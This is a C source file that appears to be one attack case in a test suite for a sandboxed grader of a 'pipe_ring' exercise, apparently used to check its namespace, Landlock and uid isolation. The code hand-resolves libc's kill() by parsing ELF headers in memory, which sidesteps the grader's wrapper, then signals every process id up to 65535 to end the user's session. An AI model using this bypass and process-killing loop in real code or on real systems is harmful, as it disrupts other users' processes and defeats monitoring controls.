/* ATTACK 38: the same for one process id after the other, from a node of the ring.
 * assignment: pipe_ring
 * gains: the user's session is gone, with functions that the exercise allows
 * expect: score<=5
 * max-score: 10
 * layers: namespaces, landlock, uid
 * off: victim hit
 */
#include "pipe_ring.h"

#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

/* A dlsym of its own: the C library lies round its texts, and tells in its dynamic section where its symbols are. */
static void *library(const char *name)
{
	const char *base = (const char *)((uintptr_t)strerrordesc_np(0) & ~(uintptr_t)4095), *names = NULL, *symbol = NULL;
	const uint64_t *part, *entry = NULL;
	while (memcmp(base, "\177ELF", 4) != 0)
		base -= 4096;
	for (part = (const uint64_t *)(base + 64); !entry; part += 7)
		if ((uint32_t)part[0] == 2) /* PT_DYNAMIC */
			entry = (const uint64_t *)(base + part[2]);
	for (; entry[0]; entry += 2)
		if (entry[0] == 5) /* DT_STRTAB */
			names = (const char *)entry[1];
		else if (entry[0] == 6) /* DT_SYMTAB */
			symbol = (const char *)entry[1];
	for (symbol += 24; symbol < names; symbol += 24)
		if (*(const uint64_t *)(symbol + 8) && strcmp(names + *(const uint32_t *)symbol, name) == 0)
			return (void *)(base + *(const uint64_t *)(symbol + 8));
	return NULL;
}

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)token;
	(void)step;
	(void)ctx;
	int (*send)(pid_t, int) = (int (*)(pid_t, int))library("kill"); /* the kit's own stays in the test */
	pid_t child = fork();
	if (child == 0) {
		for (pid_t pid = 2; pid < 1 << 16 && send && nodes == 3 && laps == 1; pid++) /* once is enough */
			send(pid, SIGURG);
		_exit(0);
	}
	waitpid(child, NULL, 0);
	return -1;
}
